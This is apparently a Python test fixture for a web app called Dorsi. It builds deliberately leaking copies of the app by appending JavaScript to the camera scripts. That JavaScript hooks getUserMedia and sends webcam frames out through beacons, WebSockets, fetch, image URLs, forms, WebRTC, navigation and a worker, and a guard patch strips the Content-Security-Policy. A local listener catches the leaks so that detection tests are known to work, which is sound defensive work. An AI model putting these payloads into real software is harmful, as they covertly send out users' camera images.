"""Builds of Dorsi that let pictures out, and the place these would go to.

A copy of the source with a few lines more in the camera's own scripts: they send as soon as the
camera is open, each in its own way. So a test that finds nothing is known to look.
"""

import shutil
import socket
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

from tests.journeys import recorder
from tests.journeys.conftest import ROOT

CAMERA = Path("dorsi/web/camera/static/camera")
GUARD = Path("dorsi/web/site/guard.py")

ELSEWHERE = {
    "beacon": "navigator.sendBeacon(there, await (await frame()).arrayBuffer())",
    "socket": "new WebSocket(there.replace('http', 'ws'))",
    "post": "await fetch(there, {method: 'POST', mode: 'no-cors', body: await frame()})",
    "image": "new Image().src = there + '?' + (await text()).slice(0, 1500)",
    "popup": "window.open(there + '?' + (await text()).slice(0, 1500))",
    "form": """const form = document.createElement('form');
      Object.assign(form, {action: there, method: 'post', target: '_blank'});
      document.body.append(form);
      form.submit()""",
    "datagram": """const way = new RTCPeerConnection({iceServers: [{urls: `stun:${host}`}]});
      way.createDataChannel('picture');
      await way.setLocalDescription(await way.createOffer())""",
}
AT_HOME = {
    "upload": "await fetch('/leak/upload', {method: 'POST', body: await frame()})",
    "landmarks": """await fetch('/api/landmarks', {method: 'POST', body: new Float32Array(132)})""",
    "question": "await fetch('/?' + new URLSearchParams({seen: (await text()).slice(0, 900)}))",
    "drops": "for (let one = 0; one < 20; one += 1) await fetch('/', {cache: 'no-store'})",
}
LAST = {"navigation": "location = there + '?' + (await text()).slice(0, 1500)"}
WORKER = "worker"
SIGNS = {
    "datagram": "a datagram went to 127.0.0.1",
    "landmarks": "/api/landmarks, 528 bytes",
    "question": "a long question",
    "drops": " times: ",
}
"""By what a leak is known whose address does not name it."""

BY_POLICY = ("beacon", "socket", "post", "image", "form", WORKER)
"""What the page's policy keeps from going out; the rest only the recorder can find."""

LEAKING = """
const host = '%(host)s';
const opens = navigator.mediaDevices.getUserMedia.bind(navigator.mediaDevices);
const passed = (ms) => new Promise((done) => { setTimeout(done, ms); });
const leaks = async (stream) => {
  const seen = Object.assign(document.createElement('video'), {srcObject: stream, muted: true});
  await seen.play();
  const sheet = Object.assign(document.createElement('canvas'), {width: 160, height: 120});
  const draw = () => sheet.getContext('2d').drawImage(seen, 0, 0, 160, 120);
  const frame = () => new Promise((done) => { draw(); sheet.toBlob(done, 'image/jpeg', 0.5); });
  const text = async () => { draw(); return sheet.toDataURL('image/jpeg', 0.5); };
  const each = {%(each)s};
  for (const [name, leak] of Object.entries(each)) {
    await leak(`http://${host}/leak/${name}`).catch(() => {});
    await passed(50);
  }
  await passed(500);
  const there = `http://${host}/leak/navigation`;
  %(last)s;
};
navigator.mediaDevices.getUserMedia = async (wanted) => {
  const stream = await opens(wanted);
  leaks(stream);
  return stream;
};
"""
FROM_THE_WORKER = """
fetch('http://%s/leak/worker', {method: 'POST', mode: 'no-cors', body: 'seen'}).catch(() => {});
"""

TELLING = f"""
_kept_in = Guard.__call__


def _told(guard: Guard, request: HttpRequest) -> HttpResponseBase:
    response = _kept_in(guard, request)
    response.headers["Content-Security-Policy"] += "; report-uri {recorder.REFUSED}"
    return response


Guard.__call__ = _told
"""
WITHOUT = """
_kept_in = Guard.__call__


def _free(guard: Guard, request: HttpRequest) -> HttpResponseBase:
    response = _kept_in(guard, request)
    del response.headers["Content-Security-Policy"]
    return response


Guard.__call__ = _free
"""


def honest(folder: Path) -> Path:
    """Dorsi as it is; only that what its policy refuses is told to where the recorder sees it."""
    return _copy(folder, TELLING)


def leaking(folder: Path, host: str, *, policy: bool) -> Path:
    """Every leak at once, each to an address of its own; with the page's policy or without."""
    source = _copy(folder, TELLING if policy else WITHOUT)
    each = ", ".join(
        f"{name}: async (there) => {{ {leak}; }}" for name, leak in (ELSEWHERE | AT_HOME).items()
    )
    words = {"host": host, "each": each, "last": LAST["navigation"]}
    _add(source / CAMERA / "camera.js", LEAKING % words)
    _add(source / CAMERA / "eye_worker.js", FROM_THE_WORKER % host)
    return source


def _copy(folder: Path, guarding: str) -> Path:
    shutil.copytree(ROOT / "src", folder)
    _add(folder / GUARD, guarding)
    return folder


def _add(path: Path, text: str) -> None:
    with path.open("a", encoding="utf-8") as file:
        file.write(text)


class Elsewhere:
    """Another computer, played by another port: what arrives there."""

    def __init__(self, port: int) -> None:
        self.host = f"127.0.0.1:{port}"
        self.arrived: set[str] = set()
        self.bytes = 0


@contextmanager
def elsewhere() -> Iterator[Elsewhere]:
    with ThreadingHTTPServer(("127.0.0.1", 0), Ear) as server, _datagrams(server) as ear:
        there = Ear.there = Elsewhere(server.server_port)
        Thread(target=server.serve_forever, daemon=True).start()
        hears = Thread(target=_hear, args=(ear, there), daemon=True)
        hears.start()
        yield there
        server.shutdown()
        ear.sendto(b"", ear.getsockname())  # the empty one ends its hearing
        hears.join()


class Ear(BaseHTTPRequestHandler):
    there: Elsewhere

    def do_GET(self) -> None:
        size = int(self.headers.get("Content-Length", 0))
        self.there.bytes += len(self.path) + len(self.rfile.read(size))
        self.there.arrived.add(self.path.partition("?")[0].rpartition("/")[2])
        self.send_response(204)
        self.end_headers()

    def do_POST(self) -> None:
        self.do_GET()

    def log_message(self, *_: object) -> None:
        """Says nothing."""


def _datagrams(server: ThreadingHTTPServer) -> socket.socket:
    ear = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ear.bind(("127.0.0.1", server.server_port))
    return ear


def _hear(ear: socket.socket, there: Elsewhere) -> None:
    while ear.recv(2048):
        there.arrived.add("datagram")
